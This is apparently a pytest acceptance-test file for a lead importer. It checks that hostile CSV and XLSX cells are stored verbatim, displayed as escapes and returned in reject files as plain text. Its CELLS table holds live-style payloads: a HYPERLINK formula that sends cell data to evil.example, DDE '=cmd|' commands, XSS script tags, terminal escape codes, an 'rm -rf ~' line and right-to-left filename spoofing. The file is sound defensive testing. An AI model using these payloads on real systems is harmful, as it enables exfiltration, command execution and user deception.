"""Cells that would run, hide, move a cursor or look like ours: sent as they are, shown as escapes,
and in both kinds of reject file nothing but texts."""

import csv
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import openpyxl
import pytest

from sample_data.writers.parts import archive, workbook_parts
from tests.acceptance.world import Done, World, sandbox
from tests.fuzz.verdict import CONTROLS

MAPPING = """\
version: 1
columns:
  First Name: FirstName
  "Notes\\e[31m": Notes
  "Two\\nlines": mx_City
  Email: {field: EmailAddress, transform: email}
"""
HEADER = ("First Name", "Notes\x1b[31m", "Two\nlines", "Email")
CELLS = {
    "a formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "a command": "=cmd|'/c calc'!A0",
    "an at sign": "@SUM(1+1)*cmd|'/c calc'!A0",
    "a formula behind a semicolon": "Pune;=1+1",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "escape codes": "\x1b[2J\x1b]0;title\x07\x9b31mred\x08\x7f",
    "a line like ours": "Ada\n  fix: importer purge --yes\nnext: rm -rf ~",
    "writing from right to left": "\u202egnp.exe\u2066\u200f",
    "a joined family": "👩\u200d👩\u200d👧 क्\u200dष",
    "a name of a reject column": "Reject Reason",
    "a line like a reject file's": "Import Row,Import Job",
    "a format": "%s%n{0}{row.__class__}$HOME`id`",
    "a quoted end": 'x",',
    "a break of the old kind": "a\rb\r\nc\vd\fe\x85f\u2028g",
    "a byte order mark": "\ufeffAda",
}  # fmt: skip
IN_WORKBOOKS_ONLY = {
    "a NUL": "a\0b",
    "a lone surrogate": "a\ud800b",
    "an escape of the format": "_x0041__x000D_",
}
ARRIVES = {"a\ud800b": "a_xD800_b"}  # no text of the API's can be half a sign: as it is written
LONG = "x" * (1 << 20)
Write = Callable[[Path, Sequence[Sequence[str]]], Path]


@pytest.fixture(scope="module")
def account() -> Iterator[dict[str, str]]:
    with sandbox("--limit", "none") as variables:
        yield variables


@pytest.fixture
def world(tmp_path: Path, account: dict[str, str]) -> World:
    found = World(tmp_path, account)
    found.mapping.write_text(MAPPING)
    return found


def write_csv(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    path = path.with_suffix(".csv")
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def write_workbook(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    """By its parts: no library writes such cells."""
    lines = ("".join(map(_cell, row)) for row in rows)
    path = path.with_suffix(".xlsx")
    path.write_bytes(archive(workbook_parts("".join(f"<row>{line}</row>" for line in lines))))
    return path


def _cell(text: str) -> str:
    """ECMA-376 part 1, 22.9.2.19: what XML can't carry is _xHHHH_."""
    whole = "".join(
        f"_x{ord(sign):04X}_" if _is_escaped(sign) else sign
        for sign in text.replace("_x", "_x005F_x")
    )
    for sign, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;")):
        whole = whole.replace(sign, entity)
    return f'<c t="inlineStr"><is><t xml:space="preserve">{whole}</t></is></c>'


def _is_escaped(sign: str) -> bool:
    return (sign < " " and sign not in "\t\n") or "\ud800" <= sign <= "\udfff"


def shown_safely(done: Done) -> Done:
    assert not CONTROLS.search(done.out + done.err), done
    assert not [
        line for line in done.err.splitlines() if line.startswith(("next: rm", "  fix: imp"))
    ]
    return done


BOTH = pytest.mark.parametrize("write", [write_csv, write_workbook])


@BOTH
def test_hostile_cells_arrive_as_they_are_and_come_back_as_texts(
    world: World, write: Write
) -> None:
    cells = CELLS | (IN_WORKBOOKS_ONLY if write is write_workbook else {})
    kind = write.__name__
    rows = [
        (f"{kind} {i}", text, text, f"{kind}.{i}@example.com")
        for i, text in enumerate(cells.values())
    ]
    arrive = [ARRIVES.get(text, text) for text in cells.values()]
    refused = [(name, text, text, "no e-mail") for name, _, text, _ in rows]
    path = write(world.folder / "list", [HEADER, *rows, *refused])
    assert shown_safely(world.importer("preview", path, "-m", world.mapping)).code == 1
    done = shown_safely(world.importer("run", path, "-m", world.mapping, "-vv"))
    assert (done.code, world.statuses()["created"]) == (1, len(rows)), done
    ours = [lead for lead in world.leads() if lead["FirstName"].startswith(kind)]
    assert [lead["Notes"] for lead in ours] == arrive
    assert [lead["mx_City"] for lead in ours] == arrive
    number = 1 + len(rows) + 1
    for index in range(len(cells)):
        shown = shown_safely(world.importer("status", "1", "--row", number + index))
        assert shown.code == 0
    (rejects,) = world.folder.glob("list.rejects.*")
    mended = mend(rejects)
    done = shown_safely(world.importer("run", mended))
    assert (done.code, world.statuses()["created"]) == (0, 2 * len(rows)), done
    twice = [lead for lead in world.leads() if lead["FirstName"].startswith(kind)]
    assert [lead["Notes"] for lead in twice] == [*arrive, *arrive]


def mend(rejects: Path) -> Path:
    """As a person would in a spreadsheet program, which runs no formula there and shows no other
    text than was sent."""
    if rejects.suffix == ".csv":
        return mend_csv(rejects)
    book = openpyxl.load_workbook(rejects)
    (sheet,) = book.worksheets
    for line in sheet.iter_rows(min_row=2):
        assert {cell.data_type for cell in line} <= {"s", "n"}, "no formula, no error"
        line[3].value = f"mended.{str(line[0].value).replace(' ', '.')}@example.com"
    book.save(rejects)
    return rejects


def mend_csv(rejects: Path) -> Path:
    csv.field_size_limit(1 << 24)
    with rejects.open(encoding="utf-8-sig", newline="") as file:
        lines = list(csv.reader(file))
    for line in lines[1:]:
        assert not [cell for cell in line if cell.lstrip().startswith(("=", "+", "-", "@"))]
        line[3] = f"mended.{line[0].replace(' ', '.')}@example.com"
    with rejects.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(lines)
    return rejects


@BOTH
def test_a_cell_of_a_megabyte_is_kept_whole_and_said_in_short(world: World, write: Write) -> None:
    """The account's field is too short for it; no output repeats it, and a spreadsheet program cuts
    it."""
    rows = [(write.__name__, LONG, "Pune", f"long.{write.__name__}@example.com")]
    path = write(world.folder / "list", [HEADER, *rows])
    done = shown_safely(world.importer("preview", path, "-m", world.mapping))
    assert (done.code, max(map(len, done.out.splitlines())) < 11_000) == (0, True)
    assert shown_safely(world.run(path)).json["invalid"] == 1
    (rejects,) = world.folder.glob("list.rejects.*")
    done = shown_safely(world.importer("run", mend(rejects)))
    assert "1 mended, 0 as they were" in done.err, done
    done = world.importer("status", "1", "--row", 2, "--json")
    assert done.json["row"]["cells"][1]["value"] == LONG
